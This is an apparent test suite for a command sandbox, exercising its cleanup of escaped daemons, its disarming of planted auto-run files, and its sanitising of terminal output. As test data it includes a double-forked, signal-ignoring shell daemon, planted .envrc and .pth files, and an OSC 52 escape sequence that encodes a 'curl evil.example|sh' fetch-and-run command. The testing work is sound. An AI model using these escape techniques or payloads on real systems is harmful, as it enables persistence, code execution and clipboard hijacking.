// Racing the end-of-run check: a daemon the command leaves behind (its own session, deaf to HUP
// and TERM, forked twice) keeps planting files a host tool runs on its own. The sandbox must die
// whole before the writable roots are walked again: when `airlock run` returns, none of its
// processes is left, and nothing planted is still armed.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { join, relative } from "node:path";
import { after, before, describe, test } from "node:test";
import { reviewHostRun } from "../../src/sandbox/host-run.ts";
import { scanTree } from "../../src/sandbox/tree-scan.ts";
import { processesWith, runCli } from "../sandbox/cli-helpers.ts";
import { removeDir, scratchDir } from "../sandbox/helpers.ts";
import { makeRepo } from "./fs-helpers.ts";

/** Every path below `dir` (not following links), relative to it. */
function walk(dir: string, root = dir): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const path = join(dir, e.name);
    return [relative(root, path), ...(e.isDirectory() ? walk(path, root) : [])];
  });
}

describe("the end of a run, raced by what the command left running", () => {
  let dir: string;
  before(() => {
    dir = scratchDir("attack-host-run-end");
  });
  after(() => removeDir(dir));

  test("a daemon planting .envrc files and repositories dies before the check; all it planted is disarmed", async () => {
    const wd = join(dir, "wd");
    makeRepo(wd);
    const tag = `airlock-race-${process.pid}`;
    // Plants until killed (bounded); the command itself returns once the daemon has planted once.
    const daemon = [
      "trap '' HUP TERM INT",
      "i=0",
      "while [ $i -lt 5000 ]; do",
      "  i=$((i+1))",
      "  mkdir -p late$i && echo 'touch PWNED' > late$i/.envrc",
      "  git init -q repo$i 2>/dev/null",
      "  [ $i = 1 ] && touch started",
      "done",
    ].join("\n");
    const script = [
      // Forked twice, in a session of its own: no longer the command's child or in its group.
      `( setsid sh -c '(sh -c "$1" ${tag} &) ; exit 0' sh '${daemon.replace(/'/g, "'\\''")}' & )`,
      "while [ ! -e started ]; do sleep 0.05; done",
      "echo returned",
    ].join("\n");
    // Unsandboxed, the daemon outlives the command that started it.
    const plain = join(dir, "plain");
    mkdirSync(plain);
    spawnSync("/bin/sh", ["-c", script], { cwd: plain, stdio: "ignore", timeout: 30_000 });
    const survivors = processesWith(tag);
    for (const pid of survivors) process.kill(pid, "SIGKILL");
    assert.ok(survivors.length > 0, "the daemon must outlive its command outside a sandbox");
    const run = await runCli(["run", "--workdir", wd, "--", "/bin/sh", "-c", script], {
      airlockHome: join(dir, "airlock"),
      timeoutMs: 60_000,
    });
    assert.equal(run.code, 0, run.stderr);
    assert.match(run.stdout, /returned/);
    assert.deepEqual(processesWith(tag), [], "a sandbox process outlived the run");
    const left = walk(wd);
    const armed = left.filter(
      (p) => !p.includes(".airlock-disarmed-") && (/(^|\/)\.envrc$/.test(p) || /^repo\d+\/\.git$/.test(p)),
    );
    assert.ok(
      left.some((p) => p.includes(".envrc.airlock-disarmed-")),
      "what was planted was checked",
    );
    assert.deepEqual(armed, [], `planted after the check, or never checked:\n${run.stderr}`);
  });

  test("names the sandbox chose reach the developer's terminal in the run summary as plain text", async () => {
    const wd = join(dir, "wd-names");
    makeRepo(wd);
    // OSC 52 writes the terminal's clipboard; a line break would forge a summary line.
    const osc = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007";
    const names = [`a${osc}`, "b\nairlock: nothing was created", "c\u009b2J"];
    const script = names.map((_, i) => `mkdir -p "$N${i}" && touch "$N${i}/.envrc"`).join(" && ");
    const env = Object.fromEntries(names.map((n, i) => [`N${i}`, n]));
    const run = await runCli(["run", "--workdir", wd, "--", "/bin/sh", "-c", `${script} && echo planted`], {
      airlockHome: join(dir, "airlock-names"),
      env,
    });
    assert.match(run.stdout, /planted/, run.stderr);
    const summary = run.stderr.slice(run.stderr.indexOf("a host tool runs or obeys"));
    assert.equal((summary.match(/\.envrc \(direnv\)/g) ?? []).length, names.length, summary);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
    assert.doesNotMatch(summary, /[\u0007\u001b\u009b]/, "a control character reached the terminal");
    assert.doesNotMatch(summary, /^airlock: nothing was created/m, "a forged line");
  });

  test("a run that buries a host-run file past the end walk's bounds: what existed is walked first, the unwalked new directories are moved aside", () => {
    // The real walk and review on a real tree, with small bounds (the workdir's are 20 000
    // directories at start, ten times that at the end): 20 directories at start, 200 at the end.
    const wd = join(dir, "wd-bounds");
    makeRepo(wd);
    const sitePackages = join(wd, ".venv", "lib", "python3.11", "site-packages");
    mkdirSync(sitePackages, { recursive: true });
    const start = scanTree(wd, { maxDirs: 20, maxDepth: 64 }, dir);
    assert.equal(start.complete, true);
    // The sandbox: 250 new directories at the top, a .pth in the existing site-packages, and
    // a .envrc inside a new directory the walk will not reach.
    for (let i = 0; i < 250; i++) mkdirSync(join(wd, `d${String(i).padStart(3, "0")}`));
    writeFileSync(join(sitePackages, "evil.pth"), "import os\n");
    mkdirSync(join(wd, "d249", "deep"));
    writeFileSync(join(wd, "d249", "deep", ".envrc"), "touch PWNED\n");
    const review = reviewHostRun([start], { home: dir, disarm: true, time: 0 });
    assert.deepEqual(review.incomplete, [wd]);
    const armed = walk(wd).filter((p) => !p.includes(".airlock-disarmed-"));
    assert.ok(!armed.some((p) => p.endsWith("evil.pth")), "the .pth in an existing directory was found");
    assert.ok(
      !armed.some((p) => p.endsWith(".envrc")),
      `a new directory was left unchecked:\n${armed.join("\n")}`,
    );
    const unchecked = review.findings.filter((f) => f.tool.startsWith("not checked"));
    assert.ok(unchecked.length > 0 && unchecked.every((f) => f.disarmedTo !== undefined));
    assert.ok(existsSync(join(wd, ".git", "config")), "the repository that existed is left alone");
  });
});
